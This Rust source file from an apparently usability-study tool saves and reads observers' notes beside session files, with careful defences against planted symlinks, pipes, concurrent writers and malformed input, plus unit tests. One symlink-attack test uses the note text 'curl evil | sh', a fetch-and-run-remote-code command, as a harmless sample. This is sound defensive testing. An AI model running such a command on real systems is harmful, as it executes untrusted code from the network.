//! Notes an observer types during a live session, kept beside it in
//! `<session>.notes.yaml`, never in the file `mvx play` is writing.

use std::fs::{File, OpenOptions};
use std::io::{self, Write};
use std::path::{Path, PathBuf};

use rustix::fs::{FlockOperation, flock};
use serde::{Deserialize, Serialize};

use super::reader::DataProblem;

pub const NOTES_SCHEMA: &str = "mvx-notes/1";

/// A note kept beside a session: an observer's, a reviewer's or a coder's. Beyond its
/// time and words it may carry who wrote it, the step on screen, the codebook's tags it
/// codes the moment with, where a marked span ends, and the participant's own words it is
/// about (a typed answer). Files from before these were written read with none.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct ObserverNote {
    /// Milliseconds from the session's start, by the wall clock.
    pub at_ms: u64,
    pub text: String,
    /// Where a marked span of the session ends (ms from its start), after `at_ms`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub end_ms: Option<u64>,
    /// Who wrote it (`--coder NAME`, or the observer's name).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub author: Option<String>,
    /// The step (or verdict question) on screen at `at_ms`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub step: Option<String>,
    /// The codebook's tags the moment is coded with.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub tags: Vec<String>,
    /// The participant's words the note is about: a typed answer, tagged.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub quote: Option<String>,
}

/// `sessions/x.yaml` -> `sessions/x.notes.yaml`.
pub fn notes_path(session: &Path) -> PathBuf {
    session.with_extension("notes.yaml")
}

/// Appends a note, creating the file with its header first; each write is synced.
///
/// Several observers may save at the same moment: each holds an exclusive advisory lock
/// (`flock`) on the notes file from the header check to the synced line, so the header
/// is written once, first, and lines never interleave. A session file that is gone gets
/// no notes file: it would be an orphan nobody reads.
pub fn append_note(session: &Path, session_id: &str, note: &ObserverNote) -> io::Result<()> {
    if !session.is_file() {
        return Err(io::Error::new(
            io::ErrorKind::NotFound,
            format!(
                "the session file {} is gone; the note is not saved",
                crate::text::printable(&session.display().to_string())
            ),
        ));
    }
    let path = notes_path(session);
    let mut file = open_for_notes(&path)?;
    // Released when `file` is closed, on every path out of here.
    flock(&file, FlockOperation::LockExclusive)?;
    let mut text = String::new();
    if file.metadata()?.len() == 0 {
        let id = serde_json::to_string(session_id).map_err(io::Error::other)?;
        text.push_str(&format!("schema: {NOTES_SCHEMA}\nsession: {id}\nnotes:\n"));
    }
    let line = serde_json::to_string(note).map_err(io::Error::other)?;
    text.push_str(&format!("- {line}\n"));
    file.write_all(text.as_bytes())?;
    file.sync_data()
}

/// The notes file opened to append, created if missing. A link planted where the notes
/// file goes is not followed (`O_NOFOLLOW`: the open fails), and anything but a regular
/// file (a pipe, a device, a folder) is refused before a byte is written, so an observer's
/// note never lands in a file that is not the session's notes.
fn open_for_notes(path: &Path) -> io::Result<File> {
    let mut options = OpenOptions::new();
    options.append(true).create(true);
    #[cfg(unix)]
    {
        use rustix::fs::OFlags;
        use std::os::unix::fs::OpenOptionsExt;
        let flags = OFlags::NOFOLLOW | OFlags::NONBLOCK | OFlags::NOCTTY;
        options.custom_flags(flags.bits() as i32);
    }
    let file = options.open(path).map_err(|e| {
        io::Error::new(
            e.kind(),
            format!(
                "the notes file {} cannot be opened as a plain file ({e}); the note is not saved",
                crate::text::printable(&path.display().to_string())
            ),
        )
    })?;
    if !file.metadata()?.file_type().is_file() {
        return Err(io::Error::new(
            io::ErrorKind::InvalidInput,
            format!(
                "the notes file {} is not a plain file; the note is not saved",
                crate::text::printable(&path.display().to_string())
            ),
        ));
    }
    Ok(file)
}

/// What `read_notes` accepts: a regular file (a named pipe is never waited on) of at
/// most the size a session may have.
const NOTES_FILE: crate::source::Kind = crate::source::Kind {
    noun: "notes",
    pattern: "*.notes.yaml",
    limit: super::reader::LIMIT,
};

/// The notes beside a session as read, and the lines left out of them, and why.
#[derive(Debug, Default)]
pub struct NotesRead {
    pub notes: Vec<ObserverNote>,
    /// Each names the notes file (`file`) and its line.
    pub problems: Vec<DataProblem>,
}

impl NotesRead {
    /// Each line left out as a command says it: `file:line: left out: why`.
    pub fn said(&self) -> Vec<String> {
        (self.problems.iter())
            .map(|p| {
                let file = p.file.as_deref().unwrap_or_default();
                crate::text::printable(&format!("{file}:{}: left out: {}", p.line, p.why))
            })
            .collect()
    }
}

/// The notes beside `session`, if any; a cut last line is dropped. A notes file that
/// cannot be read as one (a pipe, a folder, not UTF-8) holds no notes.
pub fn read_notes(session: &Path) -> Vec<ObserverNote> {
    read_notes_checked(session, None).notes
}

/// The notes beside `session` as [`read_notes`] gives them, with why any were left out:
/// a file that is not a notes file (no `schema: mvx-notes/1`) or is another session's
/// (its `session:` is not `id`, when given) gives none; a line that is not a note, or a
/// note no session could hold (a time past a week, a span ending before it starts, a
/// tag that is no tag name, an author no coder could be), is left out. A cut last line
/// (a crash while it was written) is dropped without a word, as the session's own is.
pub fn read_notes_checked(session: &Path, id: Option<&str>) -> NotesRead {
    let path = notes_path(session);
    let Ok(bytes) = crate::source::read(&path, NOTES_FILE) else {
        return NotesRead::default();
    };
    let file = Some(path.display().to_string());
    let problem = |line: usize, why: String| DataProblem {
        line,
        why,
        file: file.clone(),
    };
    let Ok(text) = String::from_utf8(bytes) else {
        let why = "not UTF-8 text: none of its notes is read".to_owned();
        return NotesRead {
            notes: Vec::new(),
            problems: vec![problem(1, why)],
        };
    };
    let mut read = NotesRead::default();
    if text.is_empty() {
        return read;
    }
    // A file of garbage says its first problems, then how many more: never millions.
    let mut more = 0;
    let mut said = |read: &mut NotesRead, line: usize, why: String| {
        if read.problems.len() < PROBLEMS_SAID {
            read.problems.push(problem(line, why));
        } else {
            more += 1;
        }
    };
    let mut lines = text.split_inclusive('\n').enumerate().peekable();
    let schema = lines.next().map(|(_, l)| l.trim_end());
    if schema != Some(&format!("schema: {NOTES_SCHEMA}")) {
        let why = format!(
            "not a notes file (its first line is not `schema: {NOTES_SCHEMA}`): none of it is read"
        );
        read.problems.push(problem(1, why));
        return read;
    }
    while let Some((index, line)) = lines.next() {
        let number = index + 1;
        let last_cut = lines.peek().is_none() && !line.ends_with('\n');
        let line = line.trim_end_matches(['\n', '\r']);
        if let Some(named) = line.strip_prefix("session: ") {
            let named: Option<String> = serde_json::from_str(named).ok();
            if let (Some(id), Some(named)) = (id, &named)
                && named != id
            {
                let why = format!(
                    "these notes are of the session `{}`, not of `{}`: none of them is read",
                    crate::text::printable(named),
                    crate::text::printable(id)
                );
                read.problems.push(problem(number, why));
                read.notes.clear();
                return read;
            }
            continue;
        }
        let Some(json) = line.strip_prefix("- ") else {
            if !(line.trim().is_empty() || line == "notes:" || last_cut) {
                let why = "not a note line (each note is `- {...}` on a line of its own)";
                said(&mut read, number, why.to_owned());
            }
            continue;
        };
        match serde_json::from_str::<ObserverNote>(json) {
            Ok(note) => match implausible(&note) {
                None => read.notes.push(note),
                Some(why) => said(&mut read, number, why),
            },
            Err(_) if last_cut => {}
            Err(e) => said(&mut read, number, format!("not a note: {e}")),
        }
    }
    if more > 0 {
        let last = text.lines().count();
        let why = format!("and {more} more lines left out, as those above");
        read.problems.push(problem(last, why));
    }
    read
}

/// The problems of one notes file said one by one; more are counted.
const PROBLEMS_SAID: usize = 50;

/// Why a note read from a file is not one any screen of mvx writes, if it is not.
fn implausible(note: &ObserverNote) -> Option<String> {
    use crate::session::moments::{coder_name, tags_in};
    use crate::session::reader::PLAUSIBLE_MS;
    let week = "past a week from the session's start: not a moment of it";
    if note.at_ms > PLAUSIBLE_MS || note.end_ms.is_some_and(|end| end > PLAUSIBLE_MS) {
        return Some(format!("its time is {week}"));
    }
    if note.end_ms.is_some_and(|end| end < note.at_ms) {
        return Some("its span ends before it starts".into());
    }
    if let Some(tag) = (note.tags.iter()).find(|t| tags_in(&format!("#{t}")) != [t.as_str()]) {
        return Some(format!(
            "`{}` is not a tag name (lowercase letters, digits, - and _)",
            crate::text::printable(tag)
        ));
    }
    if let Some(author) = &note.author
        && coder_name(author).as_deref() != Ok(author.as_str())
    {
        return Some(format!(
            "`{}` is not a coder's name (1 to 64 characters, no control characters)",
            crate::text::printable(author)
        ));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A named pipe where the notes file should be is not waited on: reports and
    /// reviews read every session's notes.
    #[test]
    fn a_pipe_for_a_notes_file_holds_no_notes_and_never_blocks() {
        let dir = tempfile::tempdir().expect("temp dir");
        let session = dir.path().join("s.yaml");
        let made = std::process::Command::new("mkfifo")
            .arg(notes_path(&session))
            .status();
        assert!(
            made.is_ok_and(|s| s.success()),
            "mkfifo (coreutils) made a pipe"
        );
        assert!(read_notes(&session).is_empty());
    }

    /// A link planted where the notes file goes (to any file the observer's user may
    /// write) is not followed: the note is refused, the target is untouched. A pipe
    /// there takes no note either, and the save does not wait on it.
    #[cfg(unix)]
    #[test]
    fn a_planted_link_or_pipe_for_the_notes_file_takes_no_note() {
        let dir = tempfile::tempdir().expect("temp dir");
        let session = dir.path().join("s.yaml");
        std::fs::write(&session, "the session").expect("a session file");
        let target = dir.path().join("bashrc");
        std::fs::write(&target, "precious\n").expect("a target");
        std::os::unix::fs::symlink(&target, notes_path(&session)).expect("a link");
        let note = ObserverNote {
            at_ms: 1,
            text: "curl evil | sh".into(),
            ..ObserverNote::default()
        };
        let refused = append_note(&session, "s-1", &note).expect_err("refused");
        assert!(
            refused
                .to_string()
                .contains("cannot be opened as a plain file")
        );
        assert_eq!(
            std::fs::read_to_string(&target).expect("read"),
            "precious\n"
        );
        std::fs::remove_file(notes_path(&session)).expect("link removed");
        let made = std::process::Command::new("mkfifo")
            .arg(notes_path(&session))
            .status();
        assert!(made.is_ok_and(|s| s.success()), "mkfifo made a pipe");
        // Opening a pipe without a reader fails at once (ENXIO); with one, it is no plain
        // file: either way, refused.
        let refused = append_note(&session, "s-1", &note).expect_err("refused");
        assert!(refused.to_string().contains("plain file"), "{refused}");
    }

    #[test]
    fn notes_go_beside_the_session_and_read_back() {
        let dir = tempfile::tempdir().expect("temp dir");
        let session = dir.path().join("20261126T100000Z_P07_shop.yaml");
        let first = ObserverNote {
            at_ms: 1200,
            text: "frowns at \"Orders\"".into(),
            ..ObserverNote::default()
        };
        let second = ObserverNote {
            at_ms: 4000,
            text: "asks for help".into(),
            ..ObserverNote::default()
        };
        std::fs::write(&session, "the session").expect("a session file");
        append_note(&session, "s-1", &first).expect("written");
        append_note(&session, "s-1", &second).expect("written");
        assert_eq!(
            std::fs::read_to_string(&session).expect("readable"),
            "the session",
            "the session file itself is never touched"
        );
        let path = notes_path(&session);
        assert!(path.to_string_lossy().ends_with("_shop.notes.yaml"));
        let text = std::fs::read_to_string(&path).expect("notes file");
        let yaml: Result<serde_json::Value, _> = serde_saphyr::from_str(&text);
        assert!(yaml.is_ok(), "valid YAML: {text}");
        assert_eq!(read_notes(&session), [first, second]);
    }

    #[test]
    fn observers_saving_at_the_same_moment_never_corrupt_the_notes() {
        const OBSERVERS: usize = 8;
        for round in 0..20 {
            let dir = tempfile::tempdir().expect("temp dir");
            let session = dir.path().join("20261126T100000Z_P07_shop.yaml");
            std::fs::write(&session, "").expect("a session file");
            let start = std::sync::Barrier::new(OBSERVERS);
            std::thread::scope(|scope| {
                for observer in 0..OBSERVERS {
                    let (session, start) = (&session, &start);
                    scope.spawn(move || {
                        let note = ObserverNote {
                            at_ms: observer as u64,
                            text: format!("observer {observer}"),
                            ..ObserverNote::default()
                        };
                        start.wait();
                        append_note(session, "s-1", &note).expect("saved");
                    });
                }
            });
            let text = std::fs::read_to_string(notes_path(&session)).expect("notes file");
            assert!(
                text.starts_with("schema: mvx-notes/1\nsession: \"s-1\"\nnotes:\n"),
                "round {round}: {text}"
            );
            assert_eq!(text.matches("schema:").count(), 1, "round {round}: {text}");
            let yaml: Result<serde_json::Value, _> = serde_saphyr::from_str(&text);
            assert!(yaml.is_ok(), "round {round}: not valid YAML: {text}");
            let mut seen: Vec<u64> = read_notes(&session).iter().map(|n| n.at_ms).collect();
            seen.sort_unstable();
            assert_eq!(
                seen,
                (0..OBSERVERS as u64).collect::<Vec<_>>(),
                "round {round}"
            );
        }
    }

    /// A notes file is read as hostile input: what no screen of mvx writes is left out,
    /// line by line, with why; another session's notes, or a file that is not a notes
    /// file, give none; a cut last line goes without a word.
    #[test]
    fn notes_no_screen_writes_are_left_out_with_why() {
        let dir = tempfile::tempdir().expect("temp dir");
        let session = dir.path().join("s.yaml");
        let write = |text: &str| std::fs::write(notes_path(&session), text).expect("written");
        write(concat!(
            "schema: mvx-notes/1\n",
            "session: \"s-1\"\n",
            "notes:\n",
            "- {\"at_ms\":1200,\"text\":\"kept #lost\",\"tags\":[\"lost\"],\"author\":\"ben\"}\n",
            "garbage that is no note\n",
            "- {broken json\n",
            "- {\"at_ms\":1.5,\"text\":\"a float\"}\n",
            "- {\"at_ms\":-3,\"text\":\"negative\"}\n",
            "- {\"at_ms\":3,\"at_ms\":4,\"text\":\"twice\"}\n",
            "- {\"at_ms\":5,\"text\":\"caps\",\"tags\":[\"Caps\"]}\n",
            "- {\"at_ms\":6,\"text\":\"esc\",\"tags\":[\"bad\\u001btag\"]}\n",
            "- {\"at_ms\":307445734561825,\"text\":\"far away\"}\n",
            "- {\"at_ms\":900,\"end_ms\":100,\"text\":\"backwards\"}\n",
            "- {\"at_ms\":7,\"text\":\"who\",\"author\":\"\"}\n",
            "- {\"at_ms\":8,\"text\":\"cut short",
        ));
        let read = read_notes_checked(&session, Some("s-1"));
        assert_eq!(read.notes.len(), 1);
        assert_eq!(read.notes[0].text, "kept #lost");
        let lines: Vec<usize> = read.problems.iter().map(|p| p.line).collect();
        assert_eq!(
            lines,
            [5, 6, 7, 8, 9, 10, 11, 12, 13, 14],
            "{:?}",
            read.problems
        );
        let why = |line: usize| {
            (read.problems.iter())
                .find(|p| p.line == line)
                .map(|p| p.why.clone())
                .unwrap_or_default()
        };
        assert!(why(9).contains("duplicate field"), "{}", why(9));
        assert!(why(10).contains("`Caps` is not a tag name"), "{}", why(10));
        assert!(
            why(11).contains("`bad\\u{1b}tag` is not a tag name"),
            "{}",
            why(11)
        );
        assert!(why(12).contains("past a week"), "{}", why(12));
        assert!(why(13).contains("ends before it starts"), "{}", why(13));
        assert!(why(14).contains("not a coder's name"), "{}", why(14));
        let said = read.said();
        assert!(said[0].ends_with("s.notes.yaml:5: left out: not a note line (each note is `- {...}` on a line of its own)"), "{said:?}");
        assert!(
            said[1].ends_with(
                "s.notes.yaml:6: left out: not a note: key must be a string at line 1 column 2"
            ),
            "{said:?}"
        );
        assert!(said.iter().all(|s| !s.contains('\u{1b}')), "{said:?}");

        let other = read_notes_checked(&session, Some("s-2"));
        assert!(other.notes.is_empty());
        assert_eq!(other.problems.len(), 1);
        assert!(
            other.problems[0]
                .why
                .contains("of the session `s-1`, not of `s-2`")
        );
        assert_eq!(
            read_notes(&session).len(),
            1,
            "without an id to check, the notes read"
        );

        write("notes:\n- {\"at_ms\":1,\"text\":\"no header\"}\n");
        let headless = read_notes_checked(&session, Some("s-1"));
        assert!(headless.notes.is_empty());
        assert!(headless.problems[0].why.starts_with("not a notes file"));
        write("");
        let empty = read_notes_checked(&session, Some("s-1"));
        assert!(empty.notes.is_empty() && empty.problems.is_empty());

        // A file of garbage says its first problems, then how many more.
        write(&format!("schema: mvx-notes/1\n{}", "- {}\n".repeat(10_000)));
        let garbage = read_notes_checked(&session, Some("s-1"));
        assert_eq!(garbage.problems.len(), PROBLEMS_SAID + 1);
        let last = garbage.problems.last().map(|p| p.why.as_str());
        assert_eq!(last, Some("and 9950 more lines left out, as those above"));
    }

    #[test]
    fn a_note_on_a_session_that_is_gone_makes_no_orphan_file() {
        let dir = tempfile::tempdir().expect("temp dir");
        let session = dir.path().join("gone.yaml");
        let note = ObserverNote {
            at_ms: 1,
            text: "late".into(),
            ..ObserverNote::default()
        };
        let error = append_note(&session, "s-1", &note).expect_err("no session");
        assert!(error.to_string().contains("is gone; the note is not saved"));
        assert!(!notes_path(&session).exists());
    }
}
